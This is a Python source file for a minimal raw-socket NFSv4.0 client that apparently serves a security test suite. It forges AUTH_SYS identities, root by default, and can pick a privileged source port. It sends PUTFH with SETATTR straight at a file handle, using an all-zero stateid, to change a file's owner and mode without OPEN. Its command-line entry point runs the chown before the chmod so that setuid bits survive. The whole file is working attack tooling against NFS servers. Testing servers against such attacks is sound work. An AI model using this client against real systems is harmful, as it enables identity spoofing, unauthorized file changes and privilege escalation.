"""A minimal NFSv4.0 client on a raw socket, for attacks no well-behaved client makes.

libnfs chooses its own source port and walks the pseudo file system from the root. An attacker
need not: this client picks the source port (privileged or not), claims any AUTH_SYS identity,
and sends a COMPOUND straight at a file handle learnt elsewhere. NFSv4.0 (minor version 0)
needs no session, and an all-zero stateid reads and writes without OPEN, so PUTFH + GETATTR,
SETATTR or READ is one call. Run as a script, it does one call and prints the result as JSON
(so an unprivileged user can run it with ``run_as``).

Only what the attack tests need: PUTROOTFH, LOOKUP, GETFH, PUTFH, GETATTR (owner and mode),
SETATTR (mode, owner). Encodings are RFC 7530's XDR, by hand: the standard library has no XDR
module any more (xdrlib is deprecated), and no maintained library speaks raw NFSv4 COMPOUNDs.
"""

from __future__ import annotations

import errno
import json
import random
import socket
import struct
import sys
from dataclasses import dataclass

NFS_PROGRAM, NFS_V4, COMPOUND = 100003, 4, 1
AUTH_SYS = 1
OP_GETATTR, OP_GETFH, OP_LOOKUP, OP_PUTFH, OP_PUTROOTFH, OP_SETATTR = 9, 10, 15, 22, 24, 34
FATTR4_MODE, FATTR4_OWNER = 33, 36  # both in the second bitmap word (bits 1 and 4)
NFS4ERR = {0: "NFS4_OK", 1: "NFS4ERR_PERM", 2: "NFS4ERR_NOENT", 13: "NFS4ERR_ACCESS",
           10016: "NFS4ERR_WRONGSEC", 10001: "NFS4ERR_BADHANDLE"}  # fmt: skip


def _u32(*values: int) -> bytes:
    return struct.pack(f">{len(values)}I", *values)


def _opaque(data: bytes) -> bytes:
    return _u32(len(data)) + data + b"\0" * (-len(data) % 4)


@dataclass
class Reply:
    """One COMPOUND's outcome: the RPC's own verdict, then the compound's and each op's."""

    rpc: str  # "accepted" or "denied: auth <n>" / "denied: mismatch"
    status: int = -1  # the COMPOUND's status (the first failing op's, else 0)
    ops: list[tuple[int, int]] | None = None  # (opcode, status) of each op answered
    fh: bytes = b""  # GETFH's file handle, when asked for
    owner: str = ""  # GETATTR's owner, when asked for
    mode: int = -1

    @property
    def name(self) -> str:
        return NFS4ERR.get(self.status, str(self.status))


def connect(address: str, port: int, *, privileged: bool) -> socket.socket:
    """A TCP connection from a privileged source port (< 1024, root only) or an ephemeral one."""
    sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    sock.settimeout(10)
    try:
        if privileged:
            for source in random.sample(range(600, 1024), 424):
                try:
                    sock.bind(("", source))
                    break
                except OSError as e:
                    if e.errno != errno.EADDRINUSE:
                        raise
        sock.connect((address, port))
    except BaseException:
        sock.close()
        raise
    return sock


def call(address: str, port: int, ops: bytes, count: int, *, uid: int = 0, gid: int = 0,
         privileged: bool = False) -> Reply:  # fmt: skip
    """Send one COMPOUND of ``count`` encoded ``ops``, claiming uid/gid with AUTH_SYS."""
    cred = _u32(0) + _opaque(b"attacker") + _u32(uid, gid, 0)
    xid = random.getrandbits(32)
    body = (
        _u32(xid, 0, 2, NFS_PROGRAM, NFS_V4, COMPOUND, AUTH_SYS) + _opaque(cred) + _u32(0, 0)
        + _opaque(b"") + _u32(0, count) + ops
    )  # fmt: skip
    with connect(address, port, privileged=privileged) as sock:
        sock.sendall(_u32(0x80000000 | len(body)) + body)
        data = _read_record(sock)
    return _parse(data, xid)


def _read_record(sock: socket.socket) -> bytes:
    out = b""
    while True:
        (mark,) = struct.unpack(">I", _exactly(sock, 4))
        out += _exactly(sock, mark & 0x7FFFFFFF)
        if mark & 0x80000000:
            return out


def _exactly(sock: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("the server closed the connection")
        buf += chunk
    return buf


def _parse(data: bytes, xid: int) -> Reply:
    rxid, _type, stat = struct.unpack_from(">3I", data)
    assert rxid == xid
    if stat == 1:  # MSG_DENIED: RPC_MISMATCH or AUTH_ERROR with its auth_stat
        reject, detail = struct.unpack_from(">2I", data, 12)
        return Reply("denied: " + (f"auth {detail}" if reject == 1 else "mismatch"))
    _flavor, vlen = struct.unpack_from(">2I", data, 12)
    pos = 20 + vlen + (-vlen % 4)
    (accept,) = struct.unpack_from(">I", data, pos)
    if accept != 0:
        return Reply(f"accepted: error {accept}")
    status, taglen = struct.unpack_from(">2I", data, pos + 4)
    pos += 12 + taglen + (-taglen % 4)
    (n,) = struct.unpack_from(">I", data, pos)
    pos += 4
    reply = Reply("accepted", status, [])
    for _ in range(n):
        op, op_status = struct.unpack_from(">2I", data, pos)
        pos += 8
        assert reply.ops is not None
        reply.ops.append((op, op_status))
        if op_status != 0:
            break
        pos = _op_result(reply, op, data, pos)
    return reply


def _op_result(reply: Reply, op: int, data: bytes, pos: int) -> int:
    if op == OP_GETFH:
        (n,) = struct.unpack_from(">I", data, pos)
        reply.fh = data[pos + 4 : pos + 4 + n]
        return pos + 4 + n + (-n % 4)
    if op == OP_GETATTR:
        (words,) = struct.unpack_from(">I", data, pos)
        pos += 4 + 4 * words + 4  # the bitmap, then attrlist4's length
        reply.mode = struct.unpack_from(">I", data, pos)[0]  # asked for: mode, then owner
        (n,) = struct.unpack_from(">I", data, pos + 4)
        reply.owner = data[pos + 8 : pos + 8 + n].decode()
        return pos + 8 + n + (-n % 4)
    if op == OP_SETATTR:
        (words,) = struct.unpack_from(">I", data, pos)
        return pos + 4 + 4 * words
    return pos  # PUTFH, PUTROOTFH, LOOKUP: status only


def putrootfh() -> bytes:
    return _u32(OP_PUTROOTFH)


def lookup(name: str) -> bytes:
    return _u32(OP_LOOKUP) + _opaque(name.encode())


def getfh() -> bytes:
    return _u32(OP_GETFH)


def putfh(fh: bytes) -> bytes:
    return _u32(OP_PUTFH) + _opaque(fh)


def getattr_mode_owner() -> bytes:
    return _u32(OP_GETATTR, 2, 0, (1 << (FATTR4_MODE - 32)) | (1 << (FATTR4_OWNER - 32)))


def setattr(mode: int | None = None, owner: str | None = None) -> bytes:
    bits, values = 0, b""
    if mode is not None:
        bits |= 1 << (FATTR4_MODE - 32)
        values += _u32(mode)
    if owner is not None:
        bits |= 1 << (FATTR4_OWNER - 32)
        values += _opaque(owner.encode())
    # An all-zero (anonymous) stateid: no OPEN needed to change attributes other than size.
    return _u32(OP_SETATTR) + b"\0" * 16 + _u32(2, 0, bits) + _opaque(values)


def handle_of(address: str, port: int, path: list[str], **kw: int) -> Reply:
    ops = putrootfh() + b"".join(lookup(p) for p in path) + getfh()
    return call(address, port, ops, 2 + len(path), **kw)


def main(argv: list[str]) -> None:
    """``nfs_wire.py ADDRESS PORT FH_HEX UID priv|any [MODE [OWNER]]``: PUTFH [+ SETATTR(owner)]
    [+ SETATTR(mode)] + GETATTR, claiming UID; prints the Reply as JSON."""
    address, port, fh, uid, source = argv[:5]
    ops, count = putfh(bytes.fromhex(fh)), 2
    if len(argv) > 6:  # chown first: a chown clears the set-id bits a chmod before it set
        ops += setattr(owner=argv[6])
        count += 1
    if len(argv) > 5:
        ops += setattr(int(argv[5], 8))
        count += 1
    ops += getattr_mode_owner()
    try:
        r = call(address, int(port), ops, count, uid=int(uid), gid=int(uid),
                 privileged=source == "priv")  # fmt: skip
    except OSError as e:
        print(json.dumps({"rpc": f"socket: {e}"}))
        return
    print(json.dumps({"rpc": r.rpc, "status": r.name, "ops": r.ops, "owner": r.owner,
                      "mode": r.mode}))  # fmt: skip


if __name__ == "__main__":
    main(sys.argv[1:])
